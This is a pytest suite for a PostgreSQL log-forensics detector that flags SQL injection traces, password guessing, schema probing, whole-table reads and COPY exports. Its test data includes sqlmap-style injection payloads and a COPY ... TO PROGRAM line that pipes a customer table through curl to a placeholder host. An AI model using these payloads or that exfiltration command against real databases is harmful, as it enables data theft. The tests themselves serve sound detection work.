"""Database detectors on PostgreSQL syslog text: SQL payload recognition, one case per rule, and the
nightly local pg_dump never rated high."""

from __future__ import annotations

import json

import pytest
from pglog_case import (
    APP,
    CONFIG,
    DAY,
    PREPARED,
    build,
    normal_days,
    rules,
    stamp,
    when,
)

from logsalvage.detect import database, sqltext
from logsalvage.detect.context import Context, Settings
from logsalvage.detect.model import Finding, severity_rank
from logsalvage.ingest import ingest
from logsalvage.store import CaseStore

SQLMAP = ("1 AND 5617=5617", "1) AND 5617=5617 AND (3720=3720", "1' AND 5617=5617 AND 'Xhrl'='Xhrl",
          "1);SELECT PG_SLEEP(5)--", "1;SELECT PG_SLEEP(5)--", "1 AND 7421=(SELECT 7421 FROM PG_SLEEP(5))",
          "1) UNION ALL SELECT NULL-- Sojx", "1 UNION ALL SELECT NULL,NULL-- Sojx", "1 ORDER BY 6861-- BdsZ",
          "1' OR '1'='1", ("1 AND 3201=CAST((CHR(113)||CHR(118))||(SELECT (CASE WHEN (3201=3201) THEN 1 ELSE 0 END))"
                           "::text AS NUMERIC)"))
NOT_PAYLOAD = ("abc", "O'Brien", "Rock and Roll", "03-1234-5678", "2017-06-20", "12abc", "", "NULL", "select",
               "a@b.example", "Tanaka (Mr)", "１２３", "1)", "1'", '1"')


# --- sqltext -------------------------------------------------------------------------------------

@pytest.mark.parametrize("value", SQLMAP)
def test_scanner_payloads_carry_sql(value):
    p = sqltext.value_payload(value)
    assert p.is_payload and p.strong, (value, p)


@pytest.mark.parametrize("value", NOT_PAYLOAD)
def test_ordinary_bad_input_is_not_payload(value):
    assert not sqltext.value_payload(value).is_payload, value


def test_statement_payload():
    assert sqltext.statement_payload("SELECT * FROM voyages WHERE id = 1);SELECT PG_SLEEP(5)--").is_payload
    assert sqltext.statement_payload("SELECT a FROM t WHERE c = 1 UNION ALL SELECT NULL,NULL").is_payload
    assert not sqltext.statement_payload("SELECT * FROM customers WHERE name = 'O'Brien'").is_payload
    assert not sqltext.statement_payload("SELECT * FROM users;").is_payload
    assert not sqltext.statement_payload("SELECT a FROM t -- why\nWHERE b = 1").is_payload


def test_fingerprint_ignores_constants():
    a = sqltext.fingerprint("SELECT * FROM t WHERE a = 1 AND b IN (1, 2, 3)")
    assert a == sqltext.fingerprint("select *\n from t where a = 42 and b in (7)")
    assert a != sqltext.fingerprint("SELECT * FROM t WHERE a = 1")
    assert sqltext.fingerprint("SELECT FROM FROM") is None


@pytest.mark.parametrize("sql, full, grouped, kind, target", [
    ("SELECT * FROM customers", ("customers",), (), "select", None),
    ("SELECT c.name FROM public.customers c JOIN orders o ON o.cid = c.id", ("customers", "orders"), (), "select",
     None),
    ("SELECT * FROM customers WHERE id = 1", (), (), "select", None),
    ("SELECT * FROM customers LIMIT 10", (), (), "select", None),
    ("SELECT * FROM customers LIMIT 100000", ("customers",), (), "select", None),
    ("SELECT count(*) FROM customers", (), (), "select", None),
    ("SELECT email, count(*) FROM customers GROUP BY email", (), ("customers",), "select", None),
    ("SELECT string_agg(email, ',') FROM customers", ("customers",), (), "select", None),
    ("SELECT 1 FROM t WHERE a = 1 UNION SELECT email FROM users", ("users",), (), "select", None),
    ("COPY public.customers (id, name) TO stdout;", ("customers",), (), "copy_to", "stdout"),
    ("COPY (SELECT * FROM customers) TO PROGRAM 'curl -T - http://x'", ("customers",), (), "copy_to", "program"),
    ("COPY customers TO '/tmp/c.csv' WITH CSV", ("customers",), (), "copy_to", "file"),
    ("COPY customers FROM stdin", (), (), "copy_from", None),
])
def test_analyse(sql, full, grouped, kind, target):
    info = sqltext.analyse(sql)
    assert (info.full_reads, info.grouped_reads, info.kind, info.copy_target) == (full, grouped, kind, target)


def test_customer_tables():
    assert sqltext.is_customer_table("public.customers") and sqltext.is_customer_table("wp_users")
    assert not sqltext.is_customer_table("voyages")
    assert sqltext.is_customer_table("voyages", ("voyages",)) and not sqltext.is_customer_table("users", ("voyages",))


def test_shapes_group_literal_variants(tmp_path):
    texts = ["SELECT a FROM t WHERE b = 12 AND c = 'x y'", "SELECT a FROM t WHERE b = 7 AND c = 'zz'",
             "SELECT t1.a FROM t1 WHERE $1 = 3", "SELECT a FROM t -- 12\nWHERE b = 1"]
    with CaseStore(tmp_path / "c") as store:
        shapes = [r[0] for r in store.query(
            f"SELECT {sqltext.shape_sql('s')} FROM (SELECT unnest(?::VARCHAR[]) AS s, generate_subscripts(?, 1) AS i) "
            "ORDER BY i", [texts, texts])]
    assert shapes[0] == shapes[1] == "SELECT a FROM t WHERE b = 0 AND c = ''"
    assert shapes[2] == "SELECT t1.a FROM t1 WHERE $1 = 0"  # names and parameters keep their digits
    assert shapes[3] == texts[3]  # a comment: the regexes cannot follow it, the text is its own shape


# --- detectors on ingested logs ------------------------------------------------------------------

@pytest.fixture(scope="module")
def normal(tmp_path_factory):
    ctx = build(tmp_path_factory.mktemp("normal"), normal_days(4))
    yield ctx, database.detect(ctx)
    ctx.store.close()


def test_normal_traffic_is_never_high(normal):
    ctx, found = normal
    json.dumps([f.as_dict() for f in found])  # serialisable as findings.json
    assert all(severity_rank(f.severity) < severity_rank("high") for f in found if isinstance(f, Finding))
    by = rules(found)
    assert "db.sqli_trace" not in by and "db.full_table_read" not in by and "db.auth_failed" not in by
    # the nightly pg_dump over the Unix socket: info, named for what it is
    for rule in ("db.copy_to", "db.dump_session"):
        [f] = by[rule]
        assert f.severity in ("info", "low")
        assert f.detail["assessment"] == "local (Unix socket) maintenance dump"
        assert f.detail["regular_schedule"] and f.detail["usual_local_time"].startswith("02:3")
    assert by["db.dump_session"][0].count == 4 and by["db.copy_to"][0].count == 8
    [h] = database.prepare(ctx)
    assert h.app_clients == (APP,) and h.app_clients_inferred and h.app_users == ("webapp",)


def test_slow_statements_summarised_per_fingerprint(normal):
    ctx, found = normal
    slow = rules(found)["db.slow_statement"]
    total = ctx.query("SELECT count(*) FROM events WHERE event_type = 'postgresql.duration'")[0][0]
    assert sum(f.count for f in slow) == total
    assert len({f.detail["fingerprint"] for f in slow}) == len(slow) == 7  # 5 application shapes + 2 COPY
    prepared = [f for f in slow if "v.seats_left" in f.detail["example"]]
    assert len(prepared) == 1 and prepared[0].severity == "info" and prepared[0].detail["max_ms"] >= 3000
    # the DBA's workstation: not the application, but an internal address
    [u] = rules(found)["db.unexpected_client"]
    assert u.sources == ("192.168.10.50",) and u.severity in ("low", "medium")
    assert u.detail["app_clients_basis"] == "inferred"
    [x] = rules(found)["db.undefined_object"]
    assert x.severity == "low" and x.detail["objects"] == ["voyage"]


def test_sqli_trace(tmp_path):
    log = normal_days(3)
    t0 = DAY + 14 * 3600
    # sqlmap against a bound parameter: the value fails the integer cast
    for i, value in enumerate(("1)", "1'") + SQLMAP[:6]):
        log.error(t0 + 3 * i, f'invalid input syntax for integer: "{value}"', PREPARED)
    # ordinary bad input on another day: not payload
    log.error(2 * DAY + 9 * 3600, 'invalid input syntax for integer: "abc"', PREPARED)
    log.error(2 * DAY + 9 * 3600 + 5, '''invalid input syntax for integer: "O'Brien"''', PREPARED)
    # payload concatenated into the statement text
    log.error(2 * DAY + 10 * 3600, 'syntax error at or near ")" at character 35',
              "SELECT * FROM voyages WHERE id = 1);SELECT PG_SLEEP(5)--", client="198.51.100.20")
    ctx = build(tmp_path, log)
    found = database.detect(ctx)
    by = rules(found)
    traces = sorted(by["db.sqli_trace"], key=lambda f: f.first_seen)
    assert len(traces) == 2
    bound, text = traces
    assert bound.sources == (APP,) and bound.count == 8
    assert bound.detail["payload_errors"] == 6 and bound.detail["related_errors"] == 2
    assert bound.severity == "medium" and bound.detail["payload_in"] == "bound parameter value"
    assert bound.first_seen == when(t0) and "tautology" in bound.detail["signals"]
    assert text.severity == "high" and text.sources == ("198.51.100.20",)
    [m] = by["milestone:sqli_db_errors"]
    assert m.time == when(t0)
    [first] = by["milestone:first_db_anomaly"]
    assert first.time <= when(t0)
    ctx.store.close()


def test_auth_permission_undefined(tmp_path):
    log = normal_days(2, dba=False)
    t0 = DAY + 3 * 3600
    for i in range(25):  # a password guesser
        log.error(t0 + 5 * i, 'password authentication failed for user "postgres"', level="FATAL",
                  user="postgres", client="203.0.113.7", db="ferry")
    log.error(DAY + 15 * 3600, 'password authentication failed for user "postgres"', level="FATAL",
              user="postgres", client="192.168.10.50")
    for i, table in enumerate(("users", "members", "accounts", "admin", "user_accounts", "pg_shadow_copy")):
        log.error(DAY + 4 * 3600 + 10 * i, f'relation "{table}" does not exist at character 15',
                  f"SELECT * FROM {table}", user="webapp", client="203.0.113.7")
    log.error(DAY + 5 * 3600, "permission denied for relation customers", "SELECT * FROM customers",
              user="report", client="203.0.113.7")
    ctx = build(tmp_path, log)
    by = rules(database.detect(ctx))
    auth = {f.sources: f for f in by["db.auth_failed"]}
    assert auth[("203.0.113.7",)].severity == "high" and auth[("203.0.113.7",)].detail["largest_burst"] == 25
    assert auth[("192.168.10.50",)].severity == "low"
    [undef] = by["db.undefined_object"]
    assert undef.severity == "medium" and undef.detail["assessment"] == "schema exploration"
    assert undef.detail["distinct_objects"] == 6
    [perm] = by["db.permission_denied"]
    assert perm.detail["relations"] == ["customers"] and perm.detail["customer_tables"] == ["customers"]
    assert perm.severity == "medium"  # a public address
    ctx.store.close()


def test_full_read_copy_dump_and_unexpected_clients(tmp_path):
    log = normal_days(3)
    t0 = 2 * DAY + 13 * 3600
    pid = log.statement(t0, "SELECT * FROM customers", 42000.0, user="postgres", client="203.0.113.50")
    log.statement(t0 + 50, "COPY public.customers (customer_id, name, email, tel) TO stdout;", 8000.0,
                  user="postgres", client="203.0.113.50", pid=pid, seq=4)
    log.statement(t0 + 70, "COPY public.reservations TO stdout;", 6000.0, user="postgres", client="203.0.113.50",
                  pid=pid, seq=5)
    log.statement(t0 + 90, "SELECT count(*) FROM customers", 3500.0, user="postgres", client="203.0.113.50",
                  pid=pid, seq=6)
    log.statement(t0 + 600, "SELECT * FROM voyages WHERE voyage_id = 3", 3100.0, user="postgres", client=APP)
    ctx = build(tmp_path, log)
    found = database.detect(ctx)
    by = rules(found)
    [full] = by["db.full_table_read"]
    assert full.severity == "high" and full.detail["relations"] == ["customers"] and full.count == 1
    remote = [f for f in by["db.copy_to"] if f.sources == ("203.0.113.50",)]
    assert len(remote) == 1 and remote[0].severity == "high" and remote[0].count == 2
    dumps = {f.sources: f for f in by["db.dump_session"]}
    assert dumps[("203.0.113.50",)].severity == "high" and dumps[("203.0.113.50",)].count == 1
    assert dumps[("[local]",)].severity == "info"
    clients = {f.detail["key"]: f for f in by["db.unexpected_client"]}
    assert clients["client:203.0.113.50"].severity == "high"
    assert clients["client:203.0.113.50"].detail["read_customer_tables"]
    assert clients[f"user:{APP}:postgres"].severity == "high"  # another role from the application's address
    [first] = by["milestone:first_db_anomaly"]
    assert first.time == when(t0) or first.time < when(t0)
    ctx.store.close()


def test_settings_override_inference(tmp_path):
    log = normal_days(2, dba=False)
    log.statement(DAY + 9 * 3600, "SELECT * FROM voyages", 30000.0, user="report", client="192.168.10.60")
    ctx = build(tmp_path, log, Settings(app_db_clients=("192.168.10.0/28",), app_db_users=("webapp",),
                                        customer_tables=("voyages",)))
    by = rules(database.detect(ctx))
    [h] = database.prepare(ctx)
    assert not h.app_clients_inferred and h.who()["app_clients_basis"] == "case config"
    [full] = by["db.full_table_read"]  # voyages is the customer table now
    assert full.detail["relations"] == ["voyages"] and full.sources == ("192.168.10.60",)
    # 192.168.10.60 is outside 192.168.10.0/28: not the application
    assert {f.sources for f in by["db.unexpected_client"]} == {("192.168.10.60",)}
    ctx.store.close()


def test_copies_of_one_record_count_once(tmp_path):
    log = normal_days(2)
    log.statement(DAY + 13 * 3600, "SELECT * FROM customers", 42000.0, user="postgres", client="203.0.113.50")
    # the first day and a half also survive in a backup: those records have two copies
    ctx = build(tmp_path, log, backup_until=DAY + 14 * 3600)
    assert ctx.query("SELECT count(*) FROM events WHERE statement = 'SELECT * FROM customers'")[0][0] == 2
    by = rules(database.detect(ctx))
    [full] = by["db.full_table_read"]
    live = ctx.query("SELECT source_id FROM sources WHERE kind = 'live'")[0][0]
    assert full.count == 1 and full.event_ids[0].startswith(live)
    assert sum(f.count for f in by["db.dump_session"]) == 2
    ctx.store.close()


def test_garbled_salvaged_records_are_set_aside(tmp_path):
    """A salvaged record that lost its last chunk lines (a whole-table read, to the eye) is a damaged
    copy of an application statement, not a new statement; one that holds a chunk line twice is
    joined with it once (the second copy is an issue) and is the application's statement."""
    log = normal_days(4)
    prefix = "DATABASE=ferry,USER=webapp,CLIENT=192.168.10.11(41000),LOG:  duration: 4000.000 ms  statement: "
    head = "SELECT r.reservation_id, r.passengers,"
    chunks = {777: [head, "#011c.name, c.tel", " FROM reservations r"],
              778: [head, "#011c.name, c.tel", " FROM reservations r", " FROM reservations r",
                    " JOIN customers c ON c.customer_id = r.customer_id", " WHERE r.voyage_id = 5"]}
    numbers = {777: [1, 2, 3], 778: [1, 2, 3, 3, 4, 5]}
    for i, pid in enumerate((777, 778)):
        t = 2 * DAY + 5000 + 100 * i
        lines = [f"{stamp(t)} db01 postgres[{pid}]: [3-{n}] " + (prefix if n == 1 else "") + text
                 for n, text in zip(numbers[pid], chunks[pid])]
        log.records.append((t, 10**6 + i, ("\n".join(lines) + "\n").encode()))
    image = log.write(tmp_path / "salvaged" / "db01" / "messages")
    ingest([image], tmp_path / "case", host="db01", kind="salvage", config=CONFIG)
    ctx = Context(CaseStore(tmp_path / "case"), Settings())
    found = database.detect(ctx)
    [h] = database.prepare(ctx)
    assert h.damaged == 1
    whole = ctx.query("SELECT statement FROM events WHERE process_pid = 778")[0][0]
    assert whole.endswith("FROM reservations r JOIN customers c ON c.customer_id = r.customer_id WHERE r.voyage_id = 5")
    assert ctx.query("SELECT count(*) FROM issues WHERE reason LIKE '%[3-3] repeated%'")[0][0] == 1
    assert "db.full_table_read" not in rules(found)
    assert not any(f.detail.get("fingerprint") and "FROM reservations r FROM" in f.detail.get("example", "")
                   for f in found if isinstance(f, Finding))
    ctx.store.close()
